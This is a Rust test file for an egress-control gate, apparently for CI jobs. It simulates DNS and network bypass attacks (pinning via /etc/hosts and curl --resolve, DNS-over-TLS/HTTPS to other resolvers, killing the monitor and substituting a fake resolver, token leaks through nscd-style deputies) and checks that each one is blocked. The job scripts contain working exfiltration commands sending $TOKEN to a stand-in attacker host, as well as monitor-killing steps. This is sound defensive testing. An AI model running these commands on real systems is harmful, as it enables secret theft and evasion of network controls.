//! ATTACKS.md, D9, D10, D12 and D13: names that lead where they should not, and resolvers that are not ours.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{Event, EventKind, Feature, FeatureState, JobStage, Verdict};
use portcullis_tests::evidence::{Actor, Call, NO_RULE, Question};
use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
use portcullis_tests::world::{MonitorOptions, Process};
use portcullis_tests::{Job, JobOutcome, World, wait_for};
use std::fs;
use std::io::{BufRead, BufReader};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Stdio;

/// D9: the name, the type that is asked, and an address that must be named as withheld.
const SPECIAL: &[(&str, &str, &str)] = &[
    ("loopback.special.test", "A", "127.0.0.1"),
    ("loopback.special.test", "AAAA", "::1"),
    ("private.special.test", "A", "10.0.0.1"),
    ("private.special.test", "AAAA", "fd00::1"),
    ("carrier.special.test", "A", "100.64.0.1"),
    ("link-local.special.test", "A", "169.254.1.1"),
    ("link-local.special.test", "AAAA", "fe80::1"),
    ("metadata.special.test", "A", "169.254.169.254"),
    ("metadata.special.test", "AAAA", "fd00:ec2::254"),
    ("multicast.special.test", "A", "224.0.0.1"),
    ("unspecified.special.test", "A", "0.0.0.0"),
    ("unspecified.special.test", "AAAA", "::"),
    // Variants: IPv4 in IPv6, by an alias, behind a translator (RFC 6052).
    ("mapped.special.test", "AAAA", "::ffff:10.0.0.1"),
    ("alias.special.test", "A", "10.0.0.1"),
    ("nat64.special.test", "AAAA", "64:ff9b::a00:1"),
];

#[test]
fn names_do_not_open_addresses_of_special_use() -> Result<()> {
    let mut allowed: Vec<String> =
        SPECIAL.iter().map(|(name, _, _)| format!("{name}:443")).collect();
    allowed.dedup();
    // The benign twins: an address that the policy names, one of a network that it names, one that is ordinary.
    allowed.extend(
        ["internal.special.test:443", "10.0.7.7:443", "mixed.special.test:443"].map(str::to_owned),
    );
    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
    let gate = Gate::up(&policy("block", &allowed))?;
    let world = gate.world();
    world.dns().alias("alias.special.test", "private.special.test.")?;
    world.dns().addresses("nat64.special.test", &["64:ff9b::a00:1"])?;
    world.dns().addresses("internal.special.test", &["10.0.7.7"])?;
    // The web servers are there, so that a call that gets through is answered.
    for address in ["10.0.0.1", "10.0.7.7", "169.254.169.254"] {
        world.add_address(address.parse()?)?;
    }
    let mut ask = String::new();
    for (name, kind, _) in SPECIAL {
        let question = format!("echo {name} {kind} [$(dig +short +tries=1 {kind} {name})]\n");
        ask.push_str(&question);
    }
    let mut job = gate.job();
    job.steps = vec![
        step("ask", &ask),
        step(
            "call",
            "for address in 10.0.0.1 169.254.169.254; do\n\
             curl -ksS --max-time 5 https://$address/ || echo $address is closed\ndone\n\
             curl -ksS --max-time 5 https://metadata.special.test/ || echo the name is closed\n",
        ),
        step(
            "twins",
            "curl -sS https://internal.special.test/\ndig +short A mixed.special.test\n\
             curl -sS -4 https://mixed.special.test/\n",
        ),
    ];
    let result = gate.begin(&job)?.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    for (name, kind, _) in SPECIAL {
        // An alias is no address.
        let answer = if *name == "alias.special.test" { "private.special.test." } else { "" };
        let lines = [format!("{name} {kind} []"), format!("{name} {kind} [{answer}]")];
        ensure!(lines.iter().any(|line| log.contains(line)), "{name} {kind} got an answer:\n{log}");
    }
    for line in ["10.0.0.1 is closed", "169.254.169.254 is closed", "the name is closed"] {
        ensure!(log.contains(line), "no `{line}` in\n{log}");
    }
    let twins = &result.step("twins").context("no step")?.log;
    ensure!(twins.contains("198.51.100.51") && !twins.contains("127.0.0.1"), "{twins}");

    let events = gate.final_events()?;
    for (name, kind, address) in SPECIAL {
        Question::of(name)
            .query_type(kind)
            .verdict(Verdict::Blocked)
            .policy(POLICY)
            .rule(&format!("address {address} is not granted"))
            .by(Actor::new("dig").argument(name).step("ask"))
            .find(&events)?;
    }
    for address in ["10.0.0.1", "169.254.169.254"] {
        Call::to(address.parse()?, "tcp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .name(None)
            .by(Actor::new("curl").step("call"))
            .find(&events)?;
    }
    Call::to("10.0.7.7".parse()?, "tcp", Some(443))
        .verdict(Verdict::Allowed)
        .by(Actor::new("curl").step("twins"))
        .find(&events)?;
    Call::to("198.51.100.51".parse()?, "tcp", Some(443))
        .verdict(Verdict::Allowed)
        .rule("mixed.special.test:443")
        .name(Some("mixed.special.test"))
        .find(&events)?;
    Ok(())
}

/// D10: DNS over TLS, over QUIC, over HTTPS; at the attacker's and at the world's own name server.
const ENCRYPTED: &[(&str, &str, u16)] = &[
    ("tcp", "203.0.113.66", 853),
    ("tcp", "2001:db8::66", 853),
    ("udp-sendto", "203.0.113.66", 853),
    ("udp-sendto", "2001:db8::66", 853),
    ("tcp", "203.0.113.53", 853),
    ("udp-connected", "203.0.113.53", 853),
    ("tcp", "203.0.113.53", 443),
];

#[test]
fn encrypted_dns_to_other_resolvers_is_blocked() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443", "198.51.100.60:853"]))?;
    let mut script = String::new();
    for (technique, address, port) in ENCRYPTED {
        let command = format!("python3 -S $ATTACKS/transport.py {technique} {address} {port} &\n");
        script.push_str(&command);
    }
    // The twin: a resolver that the policy names; nobody is there, which the world's router says.
    script.push_str("python3 -S $ATTACKS/transport.py tcp 198.51.100.60 853 &\nwait\n");
    let doh = "curl -ksS --max-time 5 --doh-insecure --doh-url https://203.0.113.66/dns-query https://ok.test/$TOKEN \
               || echo no answer\ncurl -sS https://ok.test/\n";
    let mut job = gate.job();
    job.steps = vec![step("other-ports", &script), step("https", doh)];
    let running = gate.begin(&job)?;
    for (technique, address, port) in ENCRYPTED {
        let protocol = if *technique == "tcp" { "tcp" } else { "udp" };
        let actor = Actor::new("python3").argument(technique).argument(address).step("other-ports");
        let call = Call::to(address.parse()?, protocol, Some(*port))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .policy(POLICY)
            .by(actor);
        gate.wait_for_call(&call)?;
    }
    let twin = Call::to("198.51.100.60".parse()?, "tcp", Some(853))
        .verdict(Verdict::Allowed)
        .rule("198.51.100.60:853");
    gate.wait_for_call(&twin)?;
    for (technique, address, _) in ENCRYPTED {
        gate.release(&format!("{technique}-{address}"))?;
    }
    gate.release("tcp-198.51.100.60")?;
    let result = running.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.contains("tcp 198.51.100.60: ECONNREFUSED"), "{log}");
    ensure!(result.step("https").is_some_and(|step| step.log.contains("no answer")), "{log}");
    gate.assert_contained()?;
    Call::to("203.0.113.66".parse()?, "tcp", Some(443))
        .verdict(Verdict::Blocked)
        .rule(NO_RULE)
        .by(Actor::new("curl").argument("--doh-url").step("https"))
        .find(&gate.final_events()?)?;
    Ok(())
}

#[test]
fn an_allowed_name_pinned_to_another_address_opens_nothing() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443", "api.ok.test:443"]))?;
    let mut job = gate.job();
    let call = "curl -ksS --max-time 5";
    job.steps = vec![
        // The name is resolved rightly first, so that its own addresses are open.
        step("before", "curl -sS https://ok.test/"),
        root_step("hosts", "printf '203.0.113.66 ok.test\\n2001:db8::66 ok.test\\n' >> /etc/hosts"),
        step("pinned", &format!("{call} https://ok.test/$TOKEN || echo closed")),
        step(
            "by-option",
            &format!(
                "{call} --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN || echo closed\n\
                 {call} --connect-to api.ok.test:443:[2001:db8::66]:443 https://api.ok.test/$TOKEN || echo closed\n"
            ),
        ),
        // A server of the attacker's in resolv.conf is none.
        root_step("resolv-conf", "echo nameserver 203.0.113.66 > /etc/resolv.conf"),
        step("twin", "curl -sS https://api.ok.test/"),
    ];
    let result = gate.begin(&job)?.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.matches("closed\n").count() == 3, "{log}");
    gate.assert_contained()?;
    let events = gate.final_events()?;
    for (address, id) in
        [("203.0.113.66", "pinned"), ("203.0.113.66", "by-option"), ("2001:db8::66", "by-option")]
    {
        Call::to(address.parse()?, "tcp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .name(None)
            .policy(POLICY)
            .by(Actor::new("curl").step(id))
            .find(&events)?;
    }
    let to_api = |address: &str| -> Result<Call> {
        let address: IpAddr = address.parse()?;
        Ok(Call::to(address, "tcp", Some(443))
            .verdict(Verdict::Allowed)
            .rule("api.ok.test:443")
            .name(Some("api.ok.test"))
            .by(Actor::new("curl").step("twin")))
    };
    to_api("2001:db8:1::11")?.find(&events).or_else(|_| to_api("198.51.100.11")?.find(&events))?;
    Ok(())
}

/// D13. The monitor is the test's own, so that it can be restarted while the job runs.
#[test]
fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    let world = gate.world();
    world.write_policy("gate", &policy("block", &["ok.test:443", "api.ok.test:443"]))?;
    world.install_hooks()?;
    let mut monitor = world.monitor(MonitorOptions::default())?;
    let call = "curl -ksS --max-time 2";
    let mut job = gate.job().env("MONITOR", &monitor.pid().to_string());
    job.steps = vec![
        step("before", "dig +short ok.test"),
        root_step(
            "stopped",
            &format!(
                "kill -STOP $MONITOR\n\
                 dig +short +tries=1 +timeout=1 api.ok.test >/dev/null || echo no answer while stopped\n\
                 {call} https://203.0.113.66/$TOKEN || echo closed while stopped\n\
                 kill -CONT $MONITOR\n"
            ),
        ),
        step("between", "dig +short api.ok.test"),
        root_step(
            "killed",
            &format!(
                "port=$(nft list ruleset | sed -n 's/.*redirect to :\\([0-9]*\\).*/\\1/p' | head -n 1)\n\
                 kill -9 $MONITOR\n\
                 while kill -0 $MONITOR 2>/dev/null && ! grep -q 'State:.Z' /proc/$MONITOR/status; do :; done\n\
                 dig +short +tries=1 +timeout=1 ok.test >/dev/null || echo no answer\n\
                 {call} https://203.0.113.66/$TOKEN || echo closed\n\
                 {call} 'https://[2001:db8::66]/'$TOKEN || echo closed for IPv6\n\
                 python3 -S $ATTACKS/fake_resolver.py $port > taken &\n\
                 until grep -q taken taken; do :; done\n\
                 echo the fake says $(dig +short +tries=1 +timeout=1 ok.test)\n\
                 {call} https://ok.test/$TOKEN || echo closed for the fake\n\
                 echo ready; until [ -e $RELEASE/go-on ]; do sleep 0.01; done\n"
            ),
        ),
        step(
            "after",
            "curl -sS https://ok.test/ >/dev/null && echo open again\ndig +short api.ok.test",
        ),
        step("still", &format!("{call} https://203.0.113.66/$TOKEN || echo still closed")),
    ];
    let running = gate.begin(&job)?;
    running.wait_for_line("ready")?;
    gate.assert_contained()?;
    monitor.restart()?;
    gate.release("go-on")?;
    let result = running.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}\n{}", monitor.log());
    for line in [
        "no answer while stopped",
        "closed while stopped",
        "no answer",
        "closed",
        "closed for IPv6",
        "the fake says 203.0.113.66",
        "closed for the fake",
        "open again",
        "still closed",
    ] {
        ensure!(log.lines().any(|found| found == line), "no `{line}` in\n{log}\n{}", monitor.log());
    }
    ensure!(result.step("between").is_some_and(|step| step.log.contains("198.51.100.11")), "{log}");
    gate.assert_contained()?;
    monitor.wait_until_idle()?;
    let events = gate.events()?;
    Call::to("203.0.113.66".parse()?, "tcp", Some(443))
        .verdict(Verdict::Blocked)
        .rule(NO_RULE)
        .by(Actor::new("curl").step("still"))
        .find(&events)?;
    let gap = |reason: &str| reason.contains("was not running");
    ensure!(
        events.iter().any(|event| matches!(&event.kind,
            EventKind::Job(job) if job.stage == JobStage::Adopted && gap(&job.reason))),
        "the restart is not recorded"
    );
    ensure!(
        events.iter().any(|event| matches!(&event.kind,
            EventKind::Posture(posture) if gap(&posture.reason))),
        "the gap is not in the posture"
    );
    Ok(())
}

/// Resolves what it is asked for on a Unix socket, in the group of a service and as another user than the job's, with the
/// network's own server: as systemd-resolved does by D-Bus, and nscd.
const DEPUTY: &str = r#"
import os, socket, struct, sys
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
listener.listen()
print("listening", flush=True)
while True:
    client = listener.accept()[0]
    name = client.recv(512).decode()
    if not name:
        continue
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.settimeout(3)
    server.sendto(query, (sys.argv[2], 53))
    try:
        answer = server.recv(4096)
        client.sendall(b"code %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0]))
    except OSError as error:
        client.sendall(str(error).encode())
    client.close()
"#;

/// Asks the deputy, or says that it refuses.
const ASK: &str = r#"ask() { python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode()); print(sys.argv[2], s.recv(512).decode())' "$DEPUTY" "$1"; }
ask ok.test; ask "$TOKEN.evil.test"; ask evil.test
"#;

/// Starts the deputy, which listens at `socket`, in the group of a service.
fn start_deputy(gate: &Gate, name: &str, socket: &Path) -> Result<Process> {
    let world = gate.world();
    let (_, group) = world.create_unit(name)?;
    fs::create_dir_all(socket.parent().context("a socket without a directory")?)?;
    let server = portcullis_tests::world::network::DNS_V4.to_string();
    let mut deputy = world
        .command("python3")
        .args(["-c", DEPUTY, &socket.display().to_string(), &server])
        .cgroup(&group)
        .spawn(Stdio::null(), Stdio::piped(), Stdio::null())?;
    let output = deputy.child().stdout.take().context("no output")?;
    BufReader::new(output).read_line(&mut String::new())?;
    Ok(deputy)
}

/// Starts the deputy, and runs the job that asks it.
fn ask_a_deputy(gate: &Gate) -> Result<portcullis_tests::JobResult> {
    let socket = gate.world().directory().join("deputy.sock");
    let _deputy = start_deputy(gate, "deputy", &socket)?;
    let mut job = gate.job().env("DEPUTY", &socket.display().to_string());
    job.steps = vec![step("ask", ASK)];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(result.log().contains("ok.test code 0, "), "{}", result.log());
    Ok(result)
}

/// D11: in scope host a deputy's questions are judged as the job's are.
#[test]
fn a_deputy_resolves_no_more_than_the_job_may() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
    let result = ask_a_deputy(&gate)?;
    ensure!(!result.log().contains("evil.test code 0"), "{}", result.log());
    let events = gate.final_events()?;
    let blocked = events.iter().filter(|event| match &event.kind {
        EventKind::Dns(query) => {
            query.name.ends_with("evil.test") && query.verdict == Verdict::Blocked
        }
        _ => false,
    });
    ensure!(blocked.count() == 2, "{events:?}");
    gate.assert_contained()
}

/// Where nscd, systemd-resolved and the system bus listen.
const NSCD: &str = "run/nscd/socket";
const RESOLVED: &str = "run/systemd/resolve/io.systemd.Resolve";
const SYSTEM_BUS: &str = "run/dbus/system_bus_socket";

/// What the postures of the job say of name services, in their order.
fn name_services(events: &[Event]) -> Vec<&Feature> {
    let postures = events.iter().filter_map(|event| match &event.kind {
        EventKind::Posture(posture) => Some(&posture.posture.features),
        _ => None,
    });
    postures.flatten().filter(|feature| feature.name == "name-services").collect()
}

/// A gate on a host with two runners.
fn with_two_runners(policy: &str, configuration: &str) -> Result<Gate> {
    let mut gate = Gate::without(World::builder().runners(2))?;
    gate.world().write_configuration(configuration)?;
    gate.raise(policy, MonitorOptions::default())?;
    for number in 0..2 {
        gate.world().runner(number).start()?;
    }
    Ok(gate)
}

/// A job that asks the deputies at these sockets, waits for a release, and asks them again.
fn job_of_deputies(gate: &Gate, sockets: &[PathBuf]) -> Job {
    let mut job = gate.job();
    let each = sockets.iter().map(|socket| format!("DEPUTY='{}'\n{ASK}\n", socket.display()));
    let script = each.collect::<Vec<_>>().concat();
    let wait = "until [ -e \"$RELEASE/again\" ]; do sleep 0.05; done";
    job.steps = vec![
        step("ask", &format!("set +e\n{script}getent hosts ok.test")),
        step("wait", wait),
        step("again", &format!("set +e\n{script}getent hosts ok.test")),
    ];
    job
}

/// D11: in scope job what a deputy asks is nobody's, so that deputies are closed to the job, also those that come while it
/// runs, and open afterwards. The job resolves names by itself.
#[test]
fn deputies_are_closed_where_only_the_job_is_judged() -> Result<()> {
    let gate = with_two_runners(&policy("block", &["ok.test:443"]), "")?;
    let sockets = [NSCD, RESOLVED].map(|path| gate.world().root().join(path));
    let _nscd = start_deputy(&gate, "nscd", &sockets[0])?;
    let resolved = start_deputy(&gate, "resolved", &sockets[1])?;
    let job = gate.begin(&job_of_deputies(&gate, &sockets))?;
    gate.wait_for_question(&Question::of("ok.test").verdict(Verdict::Allowed))?;
    // It is started anew while the job runs.
    drop(resolved);
    fs::remove_file(&sockets[1])?;
    let _resolved = start_deputy(&gate, "resolved-again", &sockets[1])?;
    let is_told = |event: &Event| matches!(&event.kind, EventKind::Posture(posture) if posture.reason.contains("resolves names opened a socket"));
    gate.wait_for_evidence(|events| {
        events.iter().find(|event| is_told(event)).map(drop).context("the new socket is not told")
    })?;
    gate.release("again")?;
    let result = job.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.matches("PermissionError").count() == 12, "{log}");
    ensure!(!log.contains("code 0") && log.matches("ok.test").count() >= 2, "{log}");
    let events = gate.final_events()?;
    let said = name_services(&events);
    ensure!(said.iter().all(|feature| feature.state == FeatureState::Active), "{said:?}");
    ensure!(!said.is_empty(), "no posture tells of them");
    gate.assert_contained()?;
    for socket in &sockets {
        let uid = gate.world().runner(0).uid();
        let connect = "import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])";
        let python = gate.world().command("python3").user(uid);
        python.args(["-c", connect]).arg(socket).text()?;
    }
    Ok(())
}

/// As long as everything of the machine is judged they stay open, and are closed when a second runner starts a job.
#[test]
fn deputies_are_closed_when_another_job_starts() -> Result<()> {
    let world = World::builder().runners(2);
    let gate = Gate::build(world, &policy("block", &["ok.test:443"]), MonitorOptions::default())?;
    let socket = gate.world().root().join(NSCD);
    let _nscd = start_deputy(&gate, "nscd", &socket)?;
    let job = gate.begin(&job_of_deputies(&gate, &[socket]))?;
    gate.wait_for_question(&Question::of("ok.test").verdict(Verdict::Allowed))?;
    ensure!(name_services(&gate.events()?).is_empty());
    let first = gate.world().job_ids()?.pop().context("no job")?;
    let second = gate.world().runner(1).begin(&gate.job())?;
    let events = || gate.world().events(&first);
    wait_for("the first job to be narrowed", || {
        (!name_services(&events().ok()?).is_empty()).then_some(())
    })?;
    gate.release("again")?;
    let (result, _) = (job.wait()?, second.wait()?);
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    let asked = &result.step("ask").context("no step")?.log;
    ensure!(asked.contains("ok.test code 0") && !asked.contains("evil.test code 0"), "{log}");
    let again = &result.step("again").context("no step")?.log;
    ensure!(again.matches("PermissionError").count() == 3, "{log}");
    gate.monitor().wait_until_idle()?;
    let events = events()?;
    let said = name_services(&events);
    ensure!(said.iter().all(|feature| feature.state == FeatureState::Active), "{said:?}");
    gate.assert_contained()
}

/// Audit mode stops nothing.
#[test]
fn deputies_are_left_to_audited_jobs() -> Result<()> {
    let gate = with_two_runners(&policy("audit", &[]), "")?;
    let socket = gate.world().root().join(NSCD);
    let _nscd = start_deputy(&gate, "nscd", &socket)?;
    gate.release("again")?;
    let result = gate.begin(&job_of_deputies(&gate, &[socket]))?.wait()?;
    ensure!(result.log().matches("ok.test code 0").count() == 2, "{}", result.log());
    ensure!(name_services(&gate.final_events()?).is_empty());
    gate.assert_leaked()
}

/// The system bus serves much else, so that it is closed where that is configured, and the posture is weaker where it is not.
#[test]
fn the_system_bus_is_closed_where_that_is_configured() -> Result<()> {
    for is_closed in [false, true] {
        let configuration = format!("[dns]\nclose-system-bus = {is_closed}\n");
        let gate = with_two_runners(&policy("block", &["ok.test:443"]), &configuration)?;
        let [bus, resolved] = [SYSTEM_BUS, RESOLVED].map(|path| gate.world().root().join(path));
        let _bus = start_deputy(&gate, "dbus", &bus)?;
        let _resolved = start_deputy(&gate, "resolved", &resolved)?;
        gate.release("again")?;
        let result = gate.begin(&job_of_deputies(&gate, &[bus]))?.wait()?;
        ensure!(result.log().contains("ok.test code 0") != is_closed, "{}", result.log());
        let events = gate.final_events()?;
        let said = name_services(&events);
        let expected = if is_closed { FeatureState::Active } else { FeatureState::Degraded };
        ensure!(!said.is_empty(), "no posture tells of it");
        ensure!(said.iter().all(|feature| feature.state == expected), "{said:?}");
        if is_closed {
            gate.assert_contained()?;
        }
    }
    Ok(())
}

#[test]
fn without_a_gate_a_deputy_carries_the_secret_out() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    ask_a_deputy(&gate)?;
    gate.assert_leaked()
}

#[test]
fn without_a_gate_the_same_calls_get_through() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    gate.world().add_address("10.0.0.1".parse()?)?;
    gate.release("tcp-203.0.113.66")?;
    let script = "dig +short A private.special.test\ncurl -ksS --max-time 5 https://private.special.test/\n\
                  python3 -S $ATTACKS/transport.py tcp 203.0.113.66 853\n\
                  curl -ksS --max-time 5 --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN\n";
    let mut job = gate.job();
    job.steps = vec![
        step("calls", script),
        root_step("hosts", "echo 203.0.113.66 ok.test >> /etc/hosts"),
        step("pinned", "curl -ksS --max-time 5 https://ok.test/$TOKEN"),
    ];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(result.log().contains("10.0.0.1"), "{}", result.log());
    gate.assert_leaked()?;
    let ports: Vec<u16> =
        gate.world().attacker().streams().iter().map(|stream| stream.port).collect();
    ensure!(ports == [853, 443, 443], "the attacker was called on {ports:?}");
    Ok(())
}
